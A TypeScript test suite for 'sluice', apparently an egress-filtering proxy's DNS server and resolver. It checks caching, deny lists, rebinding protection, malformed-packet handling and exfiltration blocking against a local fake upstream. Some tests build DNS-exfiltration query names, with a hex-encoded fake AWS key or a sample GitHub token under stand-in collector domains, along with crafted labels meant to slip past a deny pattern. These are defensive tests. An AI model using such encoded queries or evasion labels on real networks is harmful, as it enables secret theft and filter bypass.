/**
 * sluice's DNS server and shared resolver, end to end: dig and the proxy as clients, the fake
 * upstream (test/helpers/fake-dns.ts) as the internet's DNS. Every answer here that is ever
 * dialled points at loopback; public-looking addresses are only returned as data, never
 * connected to (TTL-0 rebinding through the proxy runs in a namespace: see dns-netns.test.ts).
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { startFakeDns, type FakeDns } from "../helpers/fake-dns.ts";
import { curlThrough, startEchoOrigin, stopSluices, type EchoOrigin } from "../helpers/origins.ts";
import { startSluice, type Running } from "../helpers/sluice.ts";
import { sampleSecret } from "../helpers/dlp-samples.ts";

const T = 60_000;

interface Dig {
  status: string;
  answers: string[];
  ede: string | null;
  raw: string;
}

async function dig(port: number, name: string, type = "A", extra: string[] = []): Promise<Dig> {
  const proc = Bun.spawn(["dig", "+tries=1", "+time=5", "-p", String(port), "@127.0.0.1", name, type, ...extra], { stdout: "pipe", stderr: "pipe" });
  const raw = await new Response(proc.stdout).text();
  await proc.exited;
  const status = /status: (\w+)/.exec(raw)?.[1] ?? "NO-REPLY";
  const answerSection = /;; ANSWER SECTION:\n([\s\S]*?)\n\n/.exec(raw)?.[1] ?? "";
  const answers = answerSection
    .split("\n")
    .filter((l) => l.trim())
    .map((l) => l.split(/\s+/).slice(3).join(" "));
  const ede = /; EDE: (.*)/.exec(raw)?.[1] ?? null;
  return { status, answers, ede, raw };
}

/** Sends raw bytes over UDP to sluice's DNS port; the reply bytes, or null after `ms`. */
async function rawUdp(port: number, query: Uint8Array, ms = 3000): Promise<Buffer | null> {
  let done: (b: Buffer | null) => void = () => {};
  const result = new Promise<Buffer | null>((r) => (done = r));
  const sock = await Bun.udpSocket({ port: 0, socket: { data: (_s, buf) => done(Buffer.from(buf)) } });
  const timer = setTimeout(() => done(null), ms);
  sock.send(query, port, "127.0.0.1");
  const out = await result;
  clearTimeout(timer);
  sock.close();
  return out;
}

/** A query with hand-made bytes: id 0x1234, the given flags, one question of raw name bytes. */
function handQuery(nameBytes: number[], type = 1, klass = 1, flags = 0x0100): Uint8Array {
  return Uint8Array.from([0x12, 0x34, flags >> 8, flags & 0xff, 0, 1, 0, 0, 0, 0, 0, 0, ...nameBytes, type >> 8, type & 0xff, klass >> 8, klass & 0xff]);
}
const label = (s: string) => [s.length, ...Buffer.from(s)];
const rcodeOf = (b: Buffer | null) => (b ? b.readUInt16BE(2) & 0xf : -1);

const config = (upstream: string, extra = "", egress = "") => `version: 1
proxy: { listen: "127.0.0.1:0" }
admin: { listen: "127.0.0.1:0" }
dns:
  listen: "127.0.0.1:0"
  upstreams: ["${upstream}"]
  timeout: 1s
  attempts: 1
${extra}
egress:
  deny: ["denied.test"]
  ports: { http: ["1-65535"], connect: ["1-65535"] }
${egress}
`;

let fake: FakeDns;
let sl: Running;
let echo: EchoOrigin;
const extra: Running[] = [];

beforeAll(async () => {
  echo = await startEchoOrigin();
  fake = await startFakeDns({
    names: {
      "www.example.test": { answers: [{ type: "A", data: "93.184.216.34" }], ttl: 300 },
      "big.example.test": { answers: [{ type: "A", data: "93.184.216.34" }], truncate: true },
      "gone.example.test": { rcode: "NXDOMAIN", soa: { minimum: 300 } },
      "slow.example.test": { silent: true },
      "rebind.example.test": { answers: [{ type: "A", data: "127.0.0.5" }] },
      "mixed.example.test": { answers: [{ type: "A", data: "93.184.216.34" }, { type: "A", data: "127.0.0.6" }] },
      "chain.example.test": { answers: [{ type: "CNAME", data: "inner.example.test" }, { type: "A", name: "inner.example.test", data: "127.0.0.7" }], unfiltered: true },
      "svc.corp.test": { answers: [{ type: "A", data: "127.0.0.8" }] },
      "app.test": { answers: [{ type: "A", data: "127.0.0.1" }] },
      "v6.example.test": {
        types: {
          AAAA: { answers: [{ type: "AAAA", data: "2606:4700::1111" }] },
          HTTPS: { answers: [{ type: "HTTPS", data: { priority: 1, target: ".", params: { alpn: ["h2"], ipv6hint: ["2606:4700::1111"] } } }] },
        },
      },
      "hinted.example.test": {
        types: { HTTPS: { answers: [{ type: "HTTPS", data: { priority: 1, target: ".", params: { alpn: ["h2"], ipv4hint: ["127.0.0.1"], ipv6hint: ["::1"] } } }] } },
      },
    },
  });
  sl = await startSluice(config(fake.address, "  internal_domains: [\"*.corp.test\"]"));
});

afterAll(async () => {
  await stopSluices(sl, ...extra);
  await fake?.stop();
  await echo?.stop();
});

const dnsPort = (r: Running) => Number(String(r.lines.find((l) => l.msg === "sluice ready")?.dns).split(":").pop());

describe("DNS server", () => {
  test("answers from the upstream, over UDP and TCP, and serves repeats from the cache", async () => {
    const port = dnsPort(sl);
    const first = await dig(port, "www.example.test");
    expect(first).toMatchObject({ status: "NOERROR", answers: ["A 93.184.216.34"] });
    const again = await dig(port, "WWW.Example.Test");
    expect(again.status).toBe("NOERROR");
    expect((await dig(port, "www.example.test", "A", ["+tcp"])).answers).toEqual(["A 93.184.216.34"]);
    expect(fake.count("www.example.test")).toBe(1);
  }, T);

  test("a truncated upstream answer is fetched again over TCP", async () => {
    const r = await dig(dnsPort(sl), "big.example.test");
    expect(r).toMatchObject({ status: "NOERROR", answers: ["A 93.184.216.34"] });
    expect(fake.queries().filter((q) => q.name === "big.example.test").map((q) => q.transport)).toEqual(["udp", "tcp"]);
  }, T);

  test("a denied name gets NXDOMAIN with EDE 15 and never leaves the machine", async () => {
    const r = await dig(dnsPort(sl), "denied.test");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("15 (Blocked)");
    expect(r.ede).toContain("egress.deny-host");
    expect(fake.count("denied.test")).toBe(0);
    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.host === "denied.test");
    expect(rec).toMatchObject({ verdict: "block", rule: "egress.deny-host", method: "A" });
  }, T);

  test("NXDOMAIN from the upstream is passed on and cached (RFC 2308)", async () => {
    const port = dnsPort(sl);
    expect((await dig(port, "gone.example.test")).status).toBe("NXDOMAIN");
    expect((await dig(port, "gone.example.test")).status).toBe("NXDOMAIN");
    expect(fake.count("gone.example.test")).toBe(1);
  }, T);

  test("an upstream that does not answer gives SERVFAIL, not a hang", async () => {
    expect((await dig(dnsPort(sl), "slow.example.test")).status).toBe("SERVFAIL");
  }, T);

  test("rebinding: an answer with only refused addresses is refused and recorded", async () => {
    const r = await dig(dnsPort(sl), "rebind.example.test");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("dns.rebinding");
    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.host === "rebind.example.test");
    expect(rec).toMatchObject({ verdict: "block", rule: "dns.rebinding" });
    expect(String(rec.detail)).toContain("127.0.0.5");
  }, T);

  test("rebinding: a mixed answer keeps the public addresses and says what it dropped", async () => {
    const r = await dig(dnsPort(sl), "mixed.example.test");
    expect(r).toMatchObject({ status: "NOERROR", answers: ["A 93.184.216.34"] });
    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.host === "mixed.example.test");
    expect(rec).toMatchObject({ verdict: "redact", rule: "dns.rebinding" });
  }, T);

  test("rebinding: a CNAME chain to a refused address is refused", async () => {
    const r = await dig(dnsPort(sl), "chain.example.test");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("dns.rebinding");
  }, T);

  test("internal_domains may resolve to private addresses", async () => {
    expect(await dig(dnsPort(sl), "svc.corp.test")).toMatchObject({ status: "NOERROR", answers: ["A 127.0.0.8"] });
  }, T);

  test("dns.ipv6: false answers AAAA with NODATA without asking upstream", async () => {
    const noV6 = await startSluice(config(fake.address, "  ipv6: false"));
    extra.push(noV6);
    const before = fake.count("v6.example.test");
    const r = await dig(dnsPort(noV6), "v6.example.test", "AAAA");
    expect(r).toMatchObject({ status: "NOERROR", answers: [] });
    expect(fake.count("v6.example.test")).toBe(before);
    expect((await dig(dnsPort(sl), "v6.example.test", "AAAA")).answers).toEqual(["AAAA 2606:4700::1111"]);
    const beforeHttps = fake.count("v6.example.test");
    const https = await dig(dnsPort(noV6), "v6.example.test", "HTTPS");
    expect(https).toMatchObject({ status: "NOERROR", answers: [] });
    expect(fake.count("v6.example.test")).toBe(beforeHttps);
    expect((await dig(dnsPort(sl), "v6.example.test", "HTTPS")).answers.length).toBe(1);
  }, T);

  test("rebinding: HTTPS records whose address hints are refused are dropped", async () => {
    const r = await dig(dnsPort(sl), "hinted.example.test", "HTTPS");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("dns.rebinding");
    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.host === "hinted.example.test");
    expect(rec).toMatchObject({ verdict: "block", rule: "dns.rebinding", method: "HTTPS" });
  }, T);

  test("a non-empty allow list refuses other names", async () => {
    const narrow = await startSluice(config(fake.address, "", "  allow: [\"www.example.test:443\"]"));
    extra.push(narrow);
    expect((await dig(dnsPort(narrow), "www.example.test")).status).toBe("NOERROR");
    const r = await dig(dnsPort(narrow), "gone.example.test");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("egress.not-allowed");
  }, T);

  test("a name carrying encoded data is refused before it leaves, and the record does not repeat it", async () => {
    const secret = Buffer.from("AKIAEXAMPLESECRET/aws_secret_access_key=wJalrXUtnFEMI").toString("hex");
    const name = `${secret.slice(0, 60)}.${secret.slice(60, 104)}.exfil-collector.com`;
    const r = await dig(dnsPort(sl), name, "TXT");
    expect(r.status).toBe("NXDOMAIN");
    expect(r.ede).toContain("dns.exfil-");
    expect(fake.queries().some((q) => q.name.includes("exfil-collector.com"))).toBe(false);
    const rec = await sl.waitForLine((l) => l.kind === "dns" && String(l.rule).startsWith("dns.exfil-"));
    expect(rec.verdict).toBe("block");
    expect(String(rec.detail)).not.toContain(secret.slice(0, 60));
    expect(rec.host).toBe("<2 labels redacted>.exfil-collector.com");
    expect(JSON.stringify(sl.lines)).not.toContain(secret.slice(0, 20));
  }, T);

  test("DLP reads query names too: a token in a label is refused under its own rule, never asked upstream", async () => {
    const token = sampleSecret("dlp.github-token");
    const name = `${token}.leak-collector.com`;
    const r = await dig(dnsPort(sl), name, "A");
    expect(r.status, r.raw).toBe("NXDOMAIN");
    expect(r.ede ?? r.raw).toContain("dlp.github-token");
    expect(fake.queries().some((q) => q.name.includes("leak-collector.com"))).toBe(false);
    const rec = await sl.waitForLine((l) => l.kind === "dns" && l.rule === "dlp.github-token");
    expect(rec.verdict).toBe("block");
    expect(JSON.stringify(sl.lines)).not.toContain(token);
  }, T);

  test("with dns.exfil off, DLP still reads query names", async () => {
    const noExfil = await startSluice(config(fake.address, "  exfil: { enabled: false }"));
    extra.push(noExfil);
    const token = sampleSecret("dlp.github-token");
    const r = await dig(dnsPort(noExfil), `${token}.leak2-collector.com`, "A");
    expect(r.ede ?? r.raw).toContain("dlp.github-token");
    expect(fake.queries().some((q) => q.name.includes("leak2-collector.com"))).toBe(false);
    // The exfiltration heuristics are off: an encoded-looking label that holds no secret passes.
    const hexLabel = Buffer.from("not a secret, just data").toString("hex");
    expect((await dig(dnsPort(noExfil), `${hexLabel}.example.test`, "A")).ede ?? "").not.toContain("dns.exfil");
  }, T);

  test("queries sluice will not serve get FORMERR, NOTIMP or REFUSED and never go upstream", async () => {
    const port = dnsPort(sl);
    const before = fake.count();
    // A last label `test..` reads as `foo.denied.test..`: with the dots stripped it would dodge
    // the deny pattern here and be `foo.denied.test` upstream.
    expect(rcodeOf(await rawUdp(port, handQuery([...label("foo"), ...label("denied"), ...label("test.."), 0])))).toBe(1);
    expect(rcodeOf(await rawUdp(port, handQuery([...label("a..b"), ...label("test"), 0])))).toBe(1);
    expect(rcodeOf(await rawUdp(port, handQuery([...label(".lead"), ...label("test"), 0])))).toBe(1);
    // Opcode NOTIFY (4), class CH, type ANY, an exotic type.
    expect(rcodeOf(await rawUdp(port, handQuery([...label("www"), ...label("example"), ...label("test"), 0], 1, 1, 0x2000)))).toBe(4);
    expect(rcodeOf(await rawUdp(port, handQuery([...label("www"), ...label("example"), ...label("test"), 0], 1, 3)))).toBe(5);
    expect(rcodeOf(await rawUdp(port, handQuery([...label("www"), ...label("example"), ...label("test"), 0], 255)))).toBe(4);
    expect(rcodeOf(await rawUdp(port, handQuery([...label("www"), ...label("example"), ...label("test"), 0], 999)))).toBe(5);
    expect(fake.count()).toBe(before);
  }, T);

  test("addresses outside the question's chain are not passed on", async () => {
    fake.set("stray.example.test", {
      answers: [{ type: "A", data: "93.184.216.34" }, { type: "A", name: "other.example.test", data: "93.184.216.35" }],
      authorities: [{ type: "A", name: "ns.example.test", data: "93.184.216.36" }],
      unfiltered: true,
    });
    const r = await dig(dnsPort(sl), "stray.example.test");
    expect(r.answers).toEqual(["A 93.184.216.34"]);
    expect(r.raw).not.toContain("93.184.216.35");
    expect(r.raw).not.toContain("93.184.216.36");
  }, T);

  test("a UDP answer is capped at 1232 bytes whatever the client offers (TC beyond)", async () => {
    fake.set("huge.example.test", { answers: Array.from({ length: 120 }, (_, i) => ({ type: "A" as const, data: `93.184.${i}.1` })) });
    const r = await dig(dnsPort(sl), "huge.example.test", "A", ["+bufsize=4096", "+ignore"]);
    expect(r.raw).toMatch(/flags: qr[^;]* tc/);
    const tcp = await dig(dnsPort(sl), "huge.example.test", "A", ["+tcp"]);
    expect(tcp.answers.length).toBe(120);
  }, T);

  test("thousands of malformed packets, then a normal query still works", async () => {
    const port = dnsPort(sl);
    const sock = await Bun.udpSocket({ port: 0 });
    let seed = 12345;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 16) & 0xff;
    for (let i = 0; i < 3000; i++) {
      const len = rnd() % 80;
      const buf = Buffer.alloc(len);
      for (let j = 0; j < len; j++) buf[j] = rnd();
      // Half of them look like a query header, to reach the parser's deeper paths.
      if (i % 2 === 0 && len >= 12) buf.writeUInt16BE(1, 4);
      sock.send(buf, port, "127.0.0.1");
    }
    sock.close();
    // Over TCP: an absurd length prefix and a truncated frame are dropped, not a hang.
    await Bun.connect({ hostname: "127.0.0.1", port, socket: { open: (s) => void s.end(Buffer.from([0xff, 0xff, 1, 2, 3])), data() {} } });
    // The flood fills the socket's receive queue (each packet is judged and recorded): a query
    // sent into a full queue is dropped by the kernel, whoever the server is. Let it drain first;
    // what is tested is that the server still answers.
    await Bun.sleep(300);
    expect(await dig(port, "www.example.test")).toMatchObject({ status: "NOERROR", answers: ["A 93.184.216.34"] });
  }, T);
});

describe("the proxy resolves through the same resolver", () => {
  test("a name answered with a loopback address is refused unless trusted; trusted, it works", async () => {
    const refused = await curlThrough(sl.proxyUrl, `http://app.test:${echo.port}/via-dns`);
    expect(refused.status).toBe(403);
    expect(refused.headers.get("x-sluice-rule")).toBe("net.private-address");
    expect(echo.requests.some((r) => r.url === "/via-dns")).toBe(false);

    const trusted = await startSluice(config(fake.address, "", "  trusted_cidrs: [127.0.0.1/32]"));
    extra.push(trusted);
    const ok = await curlThrough(trusted.proxyUrl, `http://app.test:${echo.port}/via-dns-trusted`);
    expect(ok.status).toBe(200);
    const rec = await trusted.waitForLine((l) => l.kind === "http" && l.path === "/via-dns-trusted");
    expect(rec).toMatchObject({ host: "app.test", upstream: "127.0.0.1" });
  }, T);
});
